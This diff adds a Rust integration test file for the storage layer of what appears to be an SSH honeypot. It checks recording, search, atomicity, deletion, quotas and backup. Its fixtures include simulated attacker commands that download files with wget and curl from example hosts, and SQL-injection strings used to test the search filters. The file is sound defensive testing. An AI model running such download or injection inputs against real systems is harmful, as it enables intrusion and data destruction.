@@ -1,0 +1,490 @@
+//! The record as its users see it: what goes in comes out, whole batches or nothing, searchable, removable, restorable.
+
+use std::net::SocketAddr;
+use std::path::PathBuf;
+
+use turncoat_event::kinds::{AuthAttempt, CommandInput, FileArtifact, SessionClose, SessionOpen};
+use turncoat_event::{Bytes, Direction, Frame, Item, Origin, SessionId, Time};
+use turncoat_store::keep::{Quota, backup, restore};
+use turncoat_store::writer::artifact_of;
+use turncoat_store::{Durability, Filter, InstallKey, Layout, Reader, StoreError, Writer, recording};
+
+struct Dir(PathBuf);
+
+impl Dir {
+    fn new(name: &str) -> Dir {
+        let path = std::env::temp_dir().join(format!("turncoat-store-{}-{name}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&path);
+        std::fs::create_dir_all(&path).unwrap();
+        Dir(path)
+    }
+    fn layout(&self) -> Layout {
+        Layout::new(self.0.join("data"))
+    }
+}
+
+impl Drop for Dir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+fn key() -> InstallKey {
+    InstallKey::derive(&[7; 32], "test")
+}
+
+fn writer(layout: &Layout) -> Writer {
+    Writer::open(layout, &"test".parse().unwrap(), key(), Durability::Process).unwrap()
+}
+
+fn origin(n: u8, src: &str) -> Origin {
+    let src: SocketAddr = src.parse().unwrap();
+    Origin::session(
+        SessionId::new(Time(i64::from(n) * 1_000_000), [n; 10]),
+        src,
+        "192.0.2.1:22".parse().unwrap(),
+        "ssh",
+    )
+}
+
+fn attempt(user: &str, secret: &[u8], accepted: bool) -> AuthAttempt {
+    AuthAttempt {
+        method: "password".into(),
+        user: user.into(),
+        secret: Some(Bytes(secret.to_vec())),
+        secret_hash: None,
+        key_type: None,
+        fingerprint: None,
+        key: None,
+        probe: None,
+        accepted,
+        policy: "list".into(),
+    }
+}
+
+fn close() -> SessionClose {
+    SessionClose {
+        reason: "client".into(),
+        bytes_in: 1,
+        bytes_out: 2,
+        duration_ms: 3,
+    }
+}
+
+fn visit(n: u8, src: &str, line: &str, content: &[u8]) -> Vec<Item> {
+    let at = origin(n, src);
+    let time = |ms: i64| Time(i64::from(n) * 1_000_000_000 + ms * 1_000_000);
+    let (sha256, artifact) = artifact_of(content.to_vec());
+    let session = at.session.unwrap();
+    let frame = |direction, ms, bytes: &[u8]| Frame {
+        session,
+        time: time(ms),
+        channel: 0,
+        direction,
+        bytes: bytes.to_vec(),
+    };
+    vec![
+        at.at(time(0), SessionOpen { via: None }).into(),
+        at.at(time(1), attempt("root", b"\xffhunter2", true)).into(),
+        frame(Direction::Resize, 2, b"80x24").into(),
+        frame(Direction::Output, 2, b"$ ").into(),
+        frame(Direction::Input, 3, line.as_bytes()).into(),
+        at.at(
+            time(3),
+            CommandInput {
+                line: line.into(),
+                reader: None,
+                pid: None,
+            },
+        )
+        .into(),
+        artifact.into(),
+        at.at(
+            time(4),
+            FileArtifact {
+                path: "/tmp/x".into(),
+                sha256,
+                size: 5,
+                kept: 5,
+                how: "sftp".into(),
+                url: None,
+            },
+        )
+        .into(),
+        at.at(time(5), close()).into(),
+    ]
+}
+
+#[test]
+fn a_visit_is_read_back_whole() {
+    let dir = Dir::new("visit");
+    let layout = dir.layout();
+    let mut writer = writer(&layout);
+    let (committed, closed) = writer
+        .append(&visit(
+            1,
+            "198.51.100.7:4000",
+            "wget http://x.example/a.sh",
+            b"\x7fELF",
+        ))
+        .unwrap();
+    assert_eq!((committed.last_seq, closed.len()), (5, 1));
+    for session in &closed {
+        recording::compress(&layout, *session).unwrap();
+    }
+    let reader = Reader::open(&layout).unwrap();
+    let (events, cursor) = reader.events(&Filter::default(), 100).unwrap();
+    assert_eq!(cursor, 5);
+    assert_eq!(
+        events.iter().map(|e| e.kind.name()).collect::<Vec<_>>(),
+        [
+            "session.open",
+            "auth.attempt",
+            "command.input",
+            "file.artifact",
+            "session.close"
+        ]
+    );
+    assert!(events.iter().all(|e| e.origin == origin(1, "198.51.100.7:4000")));
+    let turncoat_event::Kind::AuthAttempt(it) = &events[1].kind else {
+        panic!()
+    };
+    assert_eq!(it.secret, Some(Bytes(b"\xffhunter2".to_vec())));
+    assert_eq!(it.secret_hash, Some(key().secret(b"\xffhunter2")));
+
+    let row = reader.session(closed[0]).unwrap().unwrap();
+    assert_eq!(
+        (row.events, row.attempts, row.logins, row.commands, row.artifacts),
+        (5, 1, 1, 1, 1)
+    );
+    assert_eq!(row.user, Some("root".into()));
+    assert_eq!(row.reason.as_deref(), Some("client"));
+    assert_eq!(reader.recording(closed[0]).unwrap().unwrap().count(), 3);
+    assert!(layout.recording_closed(closed[0]).exists() && !layout.recording(closed[0]).exists());
+    let sha = reader.artifacts_of(closed[0]).unwrap();
+    assert_eq!(reader.artifact(sha[0]).unwrap(), b"\x7fELF");
+}
+
+#[test]
+fn filters_find_what_they_say_and_take_any_text() {
+    let dir = Dir::new("filter");
+    let layout = dir.layout();
+    let mut writer = writer(&layout);
+    writer
+        .append(&visit(1, "198.51.100.7:1", "curl -O http://a.example/x", b"a"))
+        .unwrap();
+    writer
+        .append(&visit(2, "198.51.100.9:1", "uname -a; id", b"b"))
+        .unwrap();
+    let reader = Reader::open(&layout).unwrap();
+    let count = |filter: Filter| reader.events(&filter, 100).unwrap().0.len();
+    assert_eq!(
+        count(Filter {
+            text: Some("curl example".into()),
+            ..Filter::default()
+        }),
+        1
+    );
+    assert_eq!(
+        count(Filter {
+            text: Some("example curl nothing".into()),
+            ..Filter::default()
+        }),
+        0
+    );
+    assert_eq!(
+        count(Filter {
+            kinds: vec!["auth.".into()],
+            ..Filter::default()
+        }),
+        2
+    );
+    assert_eq!(
+        count(Filter {
+            kinds: vec!["no.such".into()],
+            ..Filter::default()
+        }),
+        0
+    );
+    assert_eq!(
+        count(Filter {
+            source: Some("198.51.100.7".parse().unwrap()),
+            ..Filter::default()
+        }),
+        5
+    );
+    assert_eq!(
+        count(Filter {
+            source: Some("198.51.100.0/24".parse().unwrap()),
+            ..Filter::default()
+        }),
+        10
+    );
+    assert_eq!(
+        count(Filter {
+            after: Some(5),
+            ..Filter::default()
+        }),
+        5
+    );
+    assert_eq!(
+        count(Filter {
+            since: Some(Time(2_000_000_000)),
+            ..Filter::default()
+        }),
+        5
+    );
+    assert_eq!(
+        reader
+            .sessions(
+                &Filter {
+                    text: Some("uname".into()),
+                    ..Filter::default()
+                },
+                false,
+                10
+            )
+            .unwrap()
+            .len(),
+        1
+    );
+    for hostile in [
+        "\"",
+        "a\" OR 1",
+        "NEAR(",
+        "*",
+        "x AND",
+        "'; DROP TABLE event; --",
+        "\u{0}",
+        "(((",
+    ] {
+        let _ = reader
+            .events(
+                &Filter {
+                    text: Some(hostile.into()),
+                    ..Filter::default()
+                },
+                10,
+            )
+            .map(|_| ());
+        reader.sessions_named(hostile).unwrap();
+    }
+    assert_eq!(count(Filter::default()), 10);
+}
+
+#[test]
+fn a_batch_that_fails_leaves_nothing_and_can_be_tried_again() {
+    let dir = Dir::new("atomic");
+    let layout = dir.layout();
+    let mut writer = writer(&layout);
+    let good = visit(1, "198.51.100.7:1", "id", b"a");
+    let (head, tail) = good.split_at(4);
+    writer.append(head).unwrap();
+    let before = std::fs::metadata(layout.recording(origin(1, "198.51.100.7:1").session.unwrap()))
+        .unwrap()
+        .len();
+    let mut bad = tail.to_vec();
+    let (_, mut wrong) = artifact_of(b"x".to_vec());
+    wrong.content = "y".into();
+    bad.push(wrong.into());
+    assert!(matches!(writer.append(&bad), Err(StoreError::Refused(_))));
+    writer.database().execute_batch("CREATE TEMP TRIGGER no BEFORE INSERT ON event WHEN new.kind = 'session.close' BEGIN SELECT RAISE(ABORT, 'no'); END").unwrap();
+    assert!(writer.append(tail).is_err());
+    let after = std::fs::metadata(layout.recording(origin(1, "198.51.100.7:1").session.unwrap()))
+        .unwrap()
+        .len();
+    assert_eq!(before, after, "the recording was cut back");
+    writer.database().execute_batch("DROP TRIGGER no").unwrap();
+    let (committed, closed) = writer.append(tail).unwrap();
+    assert_eq!((committed.last_seq, closed.len()), (5, 1));
+    let reader = Reader::open(&layout).unwrap();
+    assert_eq!(reader.recording(closed[0]).unwrap().unwrap().count(), 3);
+    let row = reader.session(closed[0]).unwrap().unwrap();
+    assert_eq!((row.events, row.commands), (5, 1));
+}
+
+#[test]
+fn one_writer_at_a_time_and_interrupted_sessions_are_closed() {
+    let dir = Dir::new("lock");
+    let layout = dir.layout();
+    {
+        let mut first = writer(&layout);
+        assert!(matches!(
+            Writer::open(&layout, &"b".parse().unwrap(), key(), Durability::Process),
+            Err(StoreError::InUse(_))
+        ));
+        first
+            .append(&visit(1, "198.51.100.7:1", "id", b"a")[..6])
+            .unwrap();
+    }
+    let mut second = writer(&layout);
+    assert_eq!(second.close_interrupted(Time(9_000_000_000)).unwrap().len(), 1);
+    assert_eq!(second.close_interrupted(Time(9_000_000_000)).unwrap().len(), 0);
+    let reader = Reader::open(&layout).unwrap();
+    let row = &reader.sessions(&Filter::default(), false, 1).unwrap()[0];
+    assert_eq!(row.reason.as_deref(), Some("interrupted"));
+    assert_eq!(row.events, 4);
+}
+
+#[test]
+fn forgetting_a_source_removes_it_from_everything_and_numbers_are_not_given_twice() {
+    let dir = Dir::new("forget");
+    let layout = dir.layout();
+    {
+        let mut writer = writer(&layout);
+        writer
+            .append(&visit(1, "198.51.100.7:1", "id", b"shared"))
+            .unwrap();
+        writer
+            .append(&visit(2, "198.51.100.9:1", "secretword", b"shared"))
+            .unwrap();
+        writer
+            .append(&visit(3, "198.51.100.9:1", "secretword", b"its own"))
+            .unwrap();
+        assert_eq!(writer.forget(&"198.51.100.9".parse().unwrap()).unwrap(), (2, 0));
+    }
+    let reader = Reader::open(&layout).unwrap();
+    assert_eq!(reader.events(&Filter::default(), 100).unwrap().0.len(), 5);
+    assert_eq!(
+        reader
+            .events(
+                &Filter {
+                    text: Some("secretword".into()),
+                    ..Filter::default()
+                },
+                9
+            )
+            .unwrap()
+            .0
+            .len(),
+        0
+    );
+    let (shared, _) = artifact_of(b"shared".to_vec());
+    let (own, _) = artifact_of(b"its own".to_vec());
+    assert!(layout.artifact(shared).exists() && !layout.artifact(own).exists());
+    let raw = std::fs::read(layout.database()).unwrap();
+    let _ = raw; // the bytes of removed rows may lie in free pages until they are used again; see docs/limits.md
+    let mut again = writer(&layout);
+    let (committed, _) = again.append(&visit(4, "198.51.100.7:1", "id", b"n")).unwrap();
+    assert_eq!(committed.last_seq, 20, "after 15, although 6 to 15 are gone");
+}
+
+#[test]
+fn quotas_evict_the_oldest_and_old_sources_become_pseudonyms() {
+    let dir = Dir::new("quota");
+    let layout = dir.layout();
+    let mut writer = writer(&layout);
+    for n in 1..=40 {
+        writer
+            .append(&visit(n, "198.51.100.7:1", "id", &vec![n; 40_000]))
+            .unwrap();
+    }
+    let all = Quota {
+        bytes: u64::MAX,
+        age: None,
+        pseudonymise: None,
+    };
+    let now = Time(50_000_000_000);
+    let kept = writer
+        .keep_within(
+            &Quota {
+                age: Some(40_000_000_000),
+                ..all
+            },
+            &key(),
+            now,
+        )
+        .unwrap();
+    assert_eq!(kept.aged, 9);
+    let kept = writer
+        .keep_within(
+            &Quota {
+                pseudonymise: Some(30_000_000_000),
+                ..all
+            },
+            &key(),
+            now,
+        )
+        .unwrap();
+    assert_eq!(kept.pseudonymised, 10);
+    let size = turncoat_store::keep::usage(&layout).total();
+    let kept = writer
+        .keep_within(
+            &Quota {
+                bytes: size - 400_000,
+                ..all
+            },
+            &key(),
+            now,
+        )
+        .unwrap();
+    assert!(kept.evicted >= 10, "{kept:?}");
+    assert!(turncoat_store::keep::usage(&layout).total() <= size - 400_000);
+    let reader = Reader::open(&layout).unwrap();
+    let left = reader
+        .sessions(
+            &Filter {
+                newest_first: true,
+                ..Filter::default()
+            },
+            false,
+            100,
+        )
+        .unwrap();
+    assert!(left.len() < 31 && left[0].opened == Time(40_000_000_000));
+}
+
+#[test]
+fn a_backup_made_while_writing_can_be_restored() {
+    let dir = Dir::new("backup");
+    let layout = dir.layout();
+    let mut writer = writer(&layout);
+    std::fs::write(layout.seed(), "seed").unwrap();
+    writer.append(&visit(1, "198.51.100.7:1", "id", b"a")).unwrap();
+    writer
+        .append(&visit(2, "198.51.100.7:1", "id", b"b")[..6])
+        .unwrap();
+    let copy = dir.0.join("copy");
+    backup(&layout, &copy).unwrap();
+    assert!(matches!(backup(&layout, &copy), Err(StoreError::Refused(_))));
+    writer.append(&visit(3, "198.51.100.7:1", "later", b"c")).unwrap();
+    let other = Layout::new(dir.0.join("other"));
+    restore(&copy, &other).unwrap();
+    assert!(matches!(restore(&copy, &other), Err(StoreError::Refused(_))));
+    let reader = Reader::open(&other).unwrap();
+    assert_eq!(reader.events(&Filter::default(), 100).unwrap().0.len(), 8);
+    let sessions = reader.sessions(&Filter::default(), false, 9).unwrap();
+    assert_eq!(sessions.len(), 2);
+    assert!(
+        sessions
+            .iter()
+            .all(|s| reader.recording(s.session).unwrap().unwrap().count() == 3)
+    );
+    assert_eq!(std::fs::read_to_string(other.seed()).unwrap(), "seed");
+}
+
+#[test]
+fn a_record_of_a_newer_program_and_a_damaged_one_are_refused_in_words() {
+    let dir = Dir::new("refuse");
+    let layout = dir.layout();
+    assert!(matches!(Reader::open(&layout), Err(StoreError::Absent(_))));
+    writer(&layout)
+        .database()
+        .pragma_update(None, "user_version", 99)
+        .unwrap();
+    let error = Writer::open(&layout, &"t".parse().unwrap(), key(), Durability::Process)
+        .err()
+        .unwrap();
+    assert!(error.to_string().contains("schema 99"), "{error}");
+    std::fs::write(
+        layout.database(),
+        b"this is no database, and never was one, whatever its name says",
+    )
+    .unwrap();
+    let _ = std::fs::remove_file(layout.root().join("record.db-wal"));
+    let error = Writer::open(&layout, &"t".parse().unwrap(), key(), Durability::Process)
+        .err()
+        .unwrap();
+    assert_eq!(error.problem(), turncoat_store::Problem::Corrupt);
+    assert!(error.to_string().contains("turncoat restore"), "{error}");
+}
